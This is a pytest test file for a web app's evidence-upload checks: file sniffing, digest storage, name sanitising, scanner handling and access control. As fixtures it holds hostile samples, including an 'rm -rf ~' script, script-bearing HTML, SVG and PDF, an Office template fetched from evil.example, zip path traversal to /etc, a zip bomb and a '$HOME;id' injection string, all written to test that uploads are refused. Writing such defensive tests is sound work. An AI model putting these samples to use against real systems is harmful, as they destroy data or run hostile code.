"""Evidence from outside: judged by its bytes, kept under its digest, and refused when it is hostile."""

from __future__ import annotations

import hashlib
import io
import stat
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest

from klimaplan.domain.errors import InputError, UnknownCodeError
from klimaplan.web.accounts.models import User
from klimaplan.web.accounts.permissions import NotAllowed
from klimaplan.web.plans import selectors, services
from klimaplan.web.plans.evidence import store
from klimaplan.web.plans.evidence.sniffing import FileKind, sniff
from klimaplan.web.plans.models import EvidenceFile, Plan, PlanPart

pytestmark = pytest.mark.django_db


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = (
    b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
)  # fmt: skip
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x01" * 20 + b"\xff\xd9"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def office(part: str, **more: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(part, "<x/>")
        for name, content in more.items():
            archive.writestr(name, content)
    return file.getvalue()


XLSX, DOCX = office("xl/workbook.xml"), office("word/document.xml")


def relation(kind: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, "pdf"), (PNG, "png"), (JPEG, "jpeg"), (XLSX, "xlsx"), (DOCX, "docx"),
        (b"kommune;ton\nHvidovre;12\n", "csv"), ("År,ton\n2030,5\n".encode(), "csv"),
        ("Referat: vi mødtes på rådhuset, og det var godt.".encode(), "txt"), ("Blåbær\n".encode("cp1252"), "txt"),
        (office("word/document.xml", **{"word/_rels/document.xml.rels": relation("hyperlink")}), "docx"),
    ],
)  # fmt: skip
def test_a_file_is_what_its_bytes_are(content: bytes, kind: str) -> None:
    assert sniff(content) == kind


HOSTILE = {
    "empty": (b"", "evidence-empty"),
    "program": (b"MZ\x90\x00\x03" + b"\0" * 60, "evidence-kind-refused"),
    "elf": (b"\x7fELF\x02\x01\x01" + b"\0" * 60, "evidence-kind-refused"),
    "shell script": (b"#!/bin/sh\nrm -rf ~\n", "evidence-active"),
    "page": (b"<!DOCTYPE html><script>alert(1)</script>", "evidence-active"),
    "page behind blanks": (b"\xef\xbb\xbf \n <html>", "evidence-active"),
    "drawing with a script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "evidence-active"),
    "text with a script": (b"hej <SCRIPT src=x>", "evidence-active"),
    "pdf that runs": (PDF.replace(b"/Type", b"/OpenAction << /S /JavaScript /JS (x) >> /Type"), "evidence-active"),
    "pdf with a file in it": (PDF.replace(b"/Type", b"/EmbeddedFile /Type"), "evidence-active"),
    "pdf that begins later": (b"x" + PDF.replace(b"\n", b"\0"), "evidence-kind-refused"),
    "half a pdf": (PDF[:30], "evidence-broken"),
    "half a picture": (PNG[:-6], "evidence-broken"),
    "picture with a page behind it": (PNG + b"<script>alert(1)</script>", "evidence-broken"),
    "half a photo": (JPEG[:-2], "evidence-broken"),
    "gif": (b"GIF89a" + b"\x01\x00" * 10, "evidence-kind-refused"),
    "zip": (office("readme.txt"), "evidence-kind-refused"),
    "macros": (office("xl/workbook.xml", **{"xl/vbaProject.bin": b"x"}), "evidence-active"),
    "embedded program": (office("word/document.xml", **{"word/embeddings/a.bin": b"x"}), "evidence-active"),
    "template from elsewhere": (
        office("word/document.xml", **{"word/_rels/settings.xml.rels": relation("attachedTemplate")}),
        "evidence-active",
    ),
    "path out of the archive": (office("xl/workbook.xml", **{"../../etc/cron.d/x": b"x"}), "evidence-active"),
    "absolute path": (office("xl/workbook.xml", **{"/etc/passwd": b"x"}), "evidence-active"),
    "drive": (office("xl/workbook.xml", **{"C:\\x": b"x"}), "evidence-active"),
    "broken archive": (XLSX[:40] + b"\0" * 40, "evidence-broken"),
    "bomb": (
        office("xl/workbook.xml", **dict.fromkeys((f"xl/{n}" for n in range(16)), b"\0" * 20_000_000)),
        "evidence-unpacks-too-large",
    ),
    "many parts": (office("xl/workbook.xml", **{f"xl/{n}": b"" for n in range(5_001)}), "evidence-unpacks-too-large"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_and_nothing_is_kept(name: str, plan: Plan, kaja: User, home: Path) -> None:
    content, code = HOSTILE[name]
    with pytest.raises(InputError) as refused:
        services.add_evidence(plan=plan, content=content, name="budget.pdf", by=kaja)
    assert [finding.code for finding in refused.value.findings] == [code]
    assert not EvidenceFile.objects.exists()
    assert not [path for path in home.rglob("*") if path.is_file()]


def test_a_file_is_kept_under_its_digest_for_its_owner_only_and_once(plan: Plan, kaja: User, home: Path) -> None:
    services.add_part(plan=plan, kind="action", content={"key": "a01", "title": "x"}, by=kaja)
    part = services.add_evidence(plan=plan, content=PDF, name="notat.pdf", action="a01", by=kaja)
    digest = hashlib.sha256(PDF).hexdigest()
    assert part.content == {"action": "a01", "title": "notat.pdf", "file": digest}
    place = home / "evidence" / digest[:2] / digest[2:]
    assert place.read_bytes() == PDF
    assert stat.S_IMODE(place.stat().st_mode) == 0o600
    services.add_evidence(plan=plan, content=PDF, name="igen.png", title="Igen", by=kaja)
    [kept] = selectors.files(plan)
    assert (kept.kind, kept.size, kept.name, kept.scanned) == (FileKind.PDF, len(PDF), "notat.pdf", False)
    assert [path for path in home.rglob("*") if path.is_file()] == [place]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"), ("C:\\Users\\x\\budget.xlsx", "budget.xlsx"), ("a\x00b\n.pdf", "ab.pdf"),
        ("fdp.\u202egpj", "fdp.gpj"), ("<img src=x>.png", "img src=x.png"), ("x" * 500, "x" * 200), ("", "file"),
    ],
)  # fmt: skip
def test_a_name_is_shown_and_used_for_nothing(name: str, shown: str, plan: Plan, kaja: User, home: Path) -> None:
    services.add_evidence(plan=plan, content=PDF, name=name, by=kaja)
    assert EvidenceFile.objects.get().name == shown
    digest = hashlib.sha256(PDF).hexdigest()
    assert [path.name for path in home.rglob("*") if path.is_file()] == [digest[2:]]


def test_a_file_over_the_limit_is_not_looked_at(
    plan: Plan, kaja: User, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KLIMAPLAN_EVIDENCE_MB", "0.0001")
    assert store.largest() == 100
    services.add_evidence(plan=plan, content=b"x" * 100, name="x.txt", by=kaja)
    with pytest.raises(InputError, match=r"larger than 0\.0001 MB"):
        services.add_evidence(plan=plan, content=b"x" * 101, name="x.txt", by=kaja)


@pytest.mark.parametrize(
    ("answer", "code"),
    [(0, None), (1, "evidence-infected"), (2, "evidence-not-scanned"), (127, "evidence-not-scanned")],
)
def test_the_scanner_of_the_installation_decides(
    answer: int, code: str | None, plan: Plan, kaja: User, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is handed the path of a file that is not yet among the evidence, without a shell in between."""
    seen = home / "seen"
    script = home / "scan er.py"  # a blank in the name is no second argument
    script.write_text(
        f"import sys, pathlib\npathlib.Path({str(seen)!r}).write_bytes(pathlib.Path(sys.argv[-1]).read_bytes())\n"
        f"assert sys.argv[1] == '$HOME;id'\nsys.exit({answer})\n"
    )
    monkeypatch.setenv("KLIMAPLAN_SCAN_COMMAND", f"{sys.executable} '{script}' '$HOME;id'")
    if code is None:
        services.add_evidence(plan=plan, content=PDF, name="x.pdf", by=kaja)
        assert EvidenceFile.objects.get().scanned
    else:
        with pytest.raises(InputError) as refused:
            services.add_evidence(plan=plan, content=PDF, name="x.pdf", by=kaja)
        assert [finding.code for finding in refused.value.findings] == [code]
        assert not [path for path in (home / "evidence").rglob("*") if path.is_file()]
    assert seen.read_bytes() == PDF


def test_a_scanner_that_is_not_there_lets_nothing_in(
    plan: Plan, kaja: User, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KLIMAPLAN_SCAN_COMMAND", "no-such-scanner --quiet")
    with pytest.raises(InputError, match="could not examine"):
        services.add_evidence(plan=plan, content=PDF, name="x.pdf", by=kaja)
    assert not PlanPart.objects.filter(kind="evidence").exists()


def test_a_file_is_handed_out_to_who_reads_the_plan_and_only_as_it_was(
    plan: Plan, kaja: User, people: Any, home: Path
) -> None:
    part = services.add_evidence(plan=plan, content=PDF, name="notat.pdf", by=kaja)
    digest = part.content["file"]
    found = selectors.download(people.reader, plan, digest)
    assert (found.name, found.media, found.content) == ("notat.pdf", "application/pdf", PDF)
    with pytest.raises(NotAllowed):
        selectors.download(people.stranger, plan, digest)
    with pytest.raises(UnknownCodeError):
        selectors.download(kaja, plan, "../../secret-key")
    store.path_of(digest).write_bytes(PDF + b"x")
    with pytest.raises(InputError, match="no longer the one"):
        selectors.download(kaja, plan, digest)
    store.path_of(digest).unlink()
    with pytest.raises(InputError, match="no longer the one"):
        selectors.download(kaja, plan, digest)


@pytest.mark.parametrize("digest", ["", "..", "a" * 63, "A" * 64, "/" * 64, "../" + "a" * 61])
def test_nothing_but_a_digest_becomes_a_path(digest: str, home: Path) -> None:
    with pytest.raises(ValueError, match="not a digest"):
        store.path_of(digest)


def test_evidence_points_to_a_file_of_its_own_plan(plan: Plan, kaja: User, home: Path) -> None:
    with pytest.raises(InputError) as refused:
        services.add_part(plan=plan, kind="evidence", content={"title": "x", "file": "ab" * 32}, by=kaja)
    assert [finding.code for finding in refused.value.findings] == ["evidence-file-unknown"]
